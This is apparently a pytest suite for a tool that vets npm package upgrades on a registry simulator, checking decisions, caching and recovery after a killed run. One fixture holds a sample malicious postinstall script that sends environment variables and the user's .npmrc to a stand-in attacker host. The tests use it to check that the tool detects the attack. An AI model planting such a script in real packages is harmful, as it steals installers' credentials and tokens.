"""Upgrades through the whole pipeline, on the registry simulator: what is judged, as of when, and what a kill leaves."""

import base64
import hashlib
import importlib
import json
import os
import signal
import subprocess
import sys
import textwrap
from datetime import UTC, datetime
from pathlib import Path

import pytest

from evals.judging import Places, forget_old_evidence, judge_upgrades
from evals.upgrades import steps

_LONG_AGO = datetime(2024, 1, 1, tzinfo=UTC)
_BEFORE, _AFTER = datetime(2026, 2, 1, tzinfo=UTC), datetime(2026, 8, 1, tzinfo=UTC)
_ROOT = Path(__file__).resolve().parents[2]
_HARVEST = (
    "require('https').request({host: 'collect.attacker.invalid', method: 'POST'})"
    ".end(JSON.stringify(process.env) + require('fs').readFileSync(require('os').homedir() + '/.npmrc'))\n"
)


@pytest.fixture
def project(registry, tmp_path):
    """A project with an upgrade that is harmless, one that attacks, and a package that is new."""
    lines = {"before": {}, "after": {}}

    def publish(name, version, state, when, **said):
        data = registry.npm.publish(name, version, published=when, **said)
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        lines[state][f"node_modules/{name}"] = {"version": version, "integrity": integrity}

    for name in ("quiet", "turned"):
        registry.npm.publish(name, "1.0.0", published=_LONG_AGO)
        publish(name, "1.1.0", "before", _BEFORE)
    publish("quiet", "1.2.0", "after", _AFTER, files={"index.js": "module.exports = 2\n"})
    attack = {"setup.js": _HARVEST, "index.js": "module.exports = 2\n"}
    publish("turned", "1.1.1", "after", _AFTER, files=attack, scripts={"postinstall": "node setup.js"})
    publish("new-here", "3.0.0", "after", _LONG_AGO)
    registry.npm.publish("quiet", "1.3.0", published=datetime(2026, 8, 2, tzinfo=UTC))
    folder = tmp_path / "project"
    for state, entries in lines.items():
        (folder / state).mkdir(parents=True)
        document = {"name": "p", "lockfileVersion": 3, "packages": {"": {"name": "p"}, **entries}}
        (folder / state / "package-lock.json").write_text(json.dumps(document))
    return folder


@pytest.fixture
def environment(registry, tmp_path):
    return {
        "CUSTOMHOUSE_NPM_REGISTRY": registry.npm_url,
        "CUSTOMHOUSE_PYPI_INDEX": registry.pypi_url,
        "HOME": str(tmp_path),
        "PATH": os.environ["PATH"],
    }


def judge(project, places, environment, **bounds):
    bounds.setdefault("max_bytes", 10_000_000)
    outcomes = judge_upgrades(steps([project]), places, environment, **bounds)
    return {outcome.judged.purl: outcome for outcome in outcomes}


def test_what_is_judged(project, environment, tmp_path):
    found = judge(project, Places(tmp_path / "kept"), environment)
    assert set(found) == {"pkg:npm/quiet@1.2.0", "pkg:npm/turned@1.1.1", "pkg:npm/new-here@3.0.0"}
    quiet, turned, new = (found[name].judged for name in sorted(found, key=lambda name: "qtn".index(name[8])))
    assert (quiet.set, quiet.variation, quiet.family) == ("upgrade", "1.1.0", "project")
    assert (quiet.decision, quiet.decision_with_gaps, quiet.reasons) == ("allow", "allow", ())
    assert (new.set, new.variation, new.decision) == ("new-package", "", "allow")
    assert turned.decision != "allow"
    assert turned.reasons[0].path in ("setup.js", "package.json")
    assert turned.reasons[0].rule in turned.rules
    assert "release-too-young" not in turned.rules + quiet.rules, "the cooldown is no part of the count"
    told = found["pkg:npm/quiet@1.2.0"].told
    assert (told.published, told.publisher) == (_AFTER, True)


def test_the_archives_are_kept_for_the_peer(project, environment, tmp_path):
    places = Places(tmp_path / "kept")
    for outcome in judge(project, places, environment).values():
        ((sha256, path),) = places.archives_of(outcome)
        assert hashlib.sha256(path.read_bytes()).hexdigest() == sha256
        assert path.name.endswith(".tgz")


def test_the_second_run_asks_nobody(project, environment, registry, tmp_path):
    places = Places(tmp_path / "kept")
    first = judge(project, places, environment)
    asked, told = len(registry.requests), []
    assert judge(project, places, environment, tell=told.append) == first
    assert (len(registry.requests), told) == (asked, [])


def test_judging_anew_fetches_nothing_anew(project, environment, registry, tmp_path):
    places = Places(tmp_path / "kept")
    first = judge(project, places, environment)
    asked = len(registry.requests)
    for path in places.results.iterdir():
        path.unlink()
    assert judge(project, places, environment) == first
    assert len(registry.requests) == asked


def test_what_could_not_be_fetched_is_a_gap_and_tried_again(project, environment, tmp_path):
    places = Places(tmp_path / "kept")
    poor = judge(project, places, environment, max_bytes=0)
    assert {outcome.judged.decision_with_gaps for outcome in poor.values()} == {"hold"}
    assert {outcome.judged.decision for outcome in poor.values()} == {"allow"}
    rich = judge(project, places, environment)
    assert rich["pkg:npm/quiet@1.2.0"].judged.decision_with_gaps == "allow"


def test_evidence_of_code_that_is_gone_is_forgotten_after_a_while(tmp_path):
    places = Places(tmp_path)
    for name in ("evidence-old", "evidence-new", places.evidence.name, "archives"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "evidence.sqlite").write_bytes(b"")
        if name != "evidence-new":
            for path in (tmp_path / name / "evidence.sqlite", tmp_path / name):
                os.utime(path, (1, 1))
    forget_old_evidence(places)
    assert {path.name for path in tmp_path.iterdir()} == {"evidence-new", places.evidence.name, "archives"}


def test_the_command_prints_the_page_and_leaves_the_committed_one(project, environment, tmp_path, capsys, monkeypatch):
    (project.parent / "states.toml").write_text("before = 2026-02-15\nafter = 2026-08-15\n")
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    cache = ["--projects", str(project.parent), "--cache-dir", str(tmp_path / "kept"), "--held", str(tmp_path / "held")]
    monkeypatch.setattr(sys, "argv", ["run.py", "--only", "upgrades", "--no-guarddog", *cache])
    monkeypatch.setattr(sys, "path", [*sys.path])
    committed = _ROOT / "docs" / "evaluation.md"
    before = committed.read_bytes() if committed.is_file() else None
    run = importlib.import_module("evals.run")
    assert run.main() == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "1 ordinary projects (project)" in text
    assert "2 upgrades of 2 distinct packages" in text
    assert "| upgrade | 2 | 50.00% (1 of 2" in text
    assert "`pkg:npm/turned@1.1.1` (was 1.1.0; project)" in text
    assert "| upgrades | 3 |" in text, "their times were measured"
    assert "pkg:npm/turned@1.1.1" in (tmp_path / "held").read_text()
    assert (committed.read_bytes() if committed.is_file() else None) == before


def test_a_sample_is_the_same_whatever_the_order(project, environment, tmp_path):
    run = importlib.import_module("evals.run")
    outcomes = list(judge(project, Places(tmp_path / "kept"), environment).values())
    picked = run.sample(outcomes, 2)
    assert len(picked) == 2
    assert run.sample(outcomes[::-1], 2) == picked
    assert run.sample(outcomes, 0) == outcomes


def test_a_killed_run_goes_on_where_it_was(project, environment, tmp_path):
    """The run is killed the moment it tells of its first release; the next one judges only the others."""
    script = textwrap.dedent("""
        import os, signal, sys
        from pathlib import Path
        from evals.judging import Places, judge_upgrades
        from evals.upgrades import steps

        def tell(outcome):
            print(outcome.judged.purl, flush=True)
            os.kill(os.getpid(), signal.SIGKILL)

        judge_upgrades(steps([Path(sys.argv[1])]), Places(Path(sys.argv[2])), os.environ, max_bytes=10**7, tell=tell)
    """)
    places = Places(tmp_path / "kept")
    path = os.pathsep.join(map(str, (_ROOT, _ROOT / "src", _ROOT / "tests")))
    command = [sys.executable, "-c", script, str(project), str(places.root)]
    killed = subprocess.run(
        command, env={**environment, "PYTHONPATH": path}, capture_output=True, text=True, check=False
    )
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    judged_again = []
    found = judge(project, places, environment, tell=lambda outcome: judged_again.append(outcome.judged.purl))
    assert sorted([killed.stdout.strip(), *judged_again]) == sorted(found)
    assert found == judge(project, Places(tmp_path / "another"), environment)
